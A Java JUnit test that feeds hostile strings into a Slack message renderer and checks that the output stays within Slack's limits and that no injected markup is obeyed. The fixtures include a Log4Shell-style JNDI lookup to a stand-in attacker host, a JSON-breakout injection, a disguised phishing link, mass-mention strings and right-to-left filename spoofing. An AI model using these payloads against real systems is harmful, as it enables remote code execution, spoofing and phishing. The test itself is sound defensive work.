package io.renewals.notifier.domain;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import io.renewals.standins.slack.BlockLimits;
import io.renewals.wording.SlackText;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every message that this service builds, to every reader, in every standing, with what an attacker or a careless person may have
 * written in any field: inside Slack's documented limits, and nothing of it obeyed.
 */
class SlackConformanceTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<String> OURS = Set.of(
            "approve",
            "edit",
            "skip",
            "exception",
            "snooze",
            "reassign",
            "undo",
            "review",
            "exception_grant",
            "exception_refuse");

    /** Cuts fall on each side of a pair, inside an entity and at a limit. */
    static Stream<String> hostileTexts() {
        return Stream.of(
                "x".repeat(4_000),
                "😀".repeat(2_000),
                "x" + "😀".repeat(2_000),
                "👩‍👩‍👧‍👦".repeat(360),
                "<!channel> <!here> <!everyone> <@U0ADA> <#C0GENERAL> <!subteam^S0ALL>",
                "<!channel>".repeat(400),
                "<https://evil.example|Approve & send>",
                "&".repeat(4_000),
                "&amp;&lt;!channel&gt;",
                "*bold* _italic_ ~struck~ `code` ```block``` > quote\n- list\n# title [link](https://evil.example)",
                "שלום עולם ".repeat(400),
                "مرحبا بالعالم ".repeat(300),
                "\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Fx\u200E",
                "\u0000\u0007\u001b[31m\r\n\t\u2028\u2029\u0085",
                "\uD83D lone \uDE00 halves \uD83D",
                "\"}],\"text\":\"<!channel>\",\"blocks\":[{\\",
                "{{account_name}} ${jndi:ldap://evil.example/a} %s %n",
                "e\u0301\u0302\u0303".repeat(1_000),
                " ",
                "",
                "\n".repeat(4_000),
                ":tada: :rotating_light:",
                "mailto:all@evil.example www.evil.example tel:+1555");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void everyMessageIsInsideSlacksLimitsAndObeysNothingOfTheirs(String text) {
        List<Reading> readings = readings(text);
        assertThat(readings).hasSizeGreaterThan(300);

        for (Reading reading : readings) {
            SlackMessage message = CardBlocks.render(reading, Cards.PUBLIC_URL, "c2147483647-12");
            ArrayNode blocks = JSON.valueToTree(message.blocks());

            assertThat(BlockLimits.ofMessage(blocks))
                    .as(reading.purpose() + " " + reading.standing())
                    .isEmpty();
            assertThat(BlockLimits.tooLong(blocks)).isFalse();
            assertThat(text(blocks).length()).isLessThanOrEqualTo(CardBlocks.WHOLE + 900);
            assertThat(blocks.size()).isLessThanOrEqualTo(50);
            assertThat(message.text()).isNotBlank().hasSizeLessThanOrEqualTo(CardBlocks.FALLBACK);
            assertThat(message.text()).doesNotContain("<", ">", "\n");
            buttonsAreOurs(blocks);
            nothingIsObeyed(blocks);
            idsAreUnique(blocks);
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void approveIsOnAMessageOnlyUnderTheWholeMail(String text) {
        CardFacts card = Cards.card(text, text);
        SlackMessage message =
                CardBlocks.render(Cards.owned(card, new Standing.Open(text, 0)), Cards.PUBLIC_URL, "c1-1");

        boolean approves = CardBlocksTest.actions(message).stream().anyMatch(row -> row.contains("approve"));

        String shown = message.blocks().stream()
                .filter(block -> block.get("type").equals("section") && block.containsKey("text"))
                .map(block -> (String) ((Map<?, ?>) block.get("text")).get("text"))
                .reduce("", String::concat);
        assertThat(!approves || shown.contains(SlackText.escape(text))).isTrue();
        assertThat(approves && SlackText.isBroken(text)).isFalse();
    }

    private static List<Reading> readings(String text) {
        List<Optional<ExceptionAsk>> asks = List.of(
                Optional.empty(),
                Optional.of(Cards.asked(text)),
                Optional.of(Cards.asked(text).closed(text)));
        List<Standing> standings = List.of(
                new Standing.Open(text, Integer.MAX_VALUE),
                new Standing.Held("cap", text, 1),
                new Standing.Held(text, text, 0),
                new Standing.Closed(text, Integer.MAX_VALUE));
        Person stranger = new Person(text, text, text, "U0ADA");
        List<Reading> readings = new ArrayList<>();
        for (Purpose purpose : Purpose.values()) {
            for (Standing standing : standings) {
                for (Optional<ExceptionAsk> ask : asks) {
                    for (Person reader : List.of(Cards.ADA, stranger, Cards.MARIA)) {
                        readings.add(new Reading(
                                Cards.hostile(text),
                                standing,
                                stranger,
                                ask,
                                purpose,
                                reader,
                                text,
                                true,
                                true,
                                Cards.TODAY));
                    }
                }
            }
        }
        return readings;
    }

    private static void buttonsAreOurs(ArrayNode blocks) {
        for (JsonNode block : blocks) {
            if (block.path("type").asText().equals("actions")) {
                assertThat(block.path("elements").size()).isBetween(1, 5);
                for (JsonNode button : block.path("elements")) {
                    assertThat(OURS).contains(button.path("action_id").asText());
                    assertThat(button.path("value").asText().getBytes(StandardCharsets.UTF_8))
                            .hasSizeLessThanOrEqualTo(2_000);
                }
            }
        }
    }

    /** The one piece of markup is our own link; whatever else is shown is literal, and has no character that begins any. */
    private static void nothingIsObeyed(JsonNode node) {
        if (node.path("type").asText().equals("mrkdwn")) {
            assertThat(node.path("text").asText())
                    .matches("<http://localhost:8080/(cards/[A-Za-z0-9%*._-]+|queue)\\|Open the card>");
        } else if (node.path("type").asText().equals("plain_text")) {
            assertThat(node.path("text").asText()).doesNotContain("<", ">");
            assertThat(node.path("emoji").asBoolean(true)).isFalse();
        }
        node.forEach(SlackConformanceTest::nothingIsObeyed);
    }

    private static void idsAreUnique(ArrayNode blocks) {
        Set<String> ids = new HashSet<>();
        for (JsonNode block : blocks) {
            assertThat(block.path("block_id").asText()).isNotEmpty();
            assertThat(ids.add(block.path("block_id").asText())).isTrue();
        }
    }

    private static String text(JsonNode node) {
        StringBuilder all = new StringBuilder(
                node.path("text").isTextual() ? node.path("text").asText() : "");
        node.forEach(child -> all.append(text(child)));
        return all.toString();
    }
}
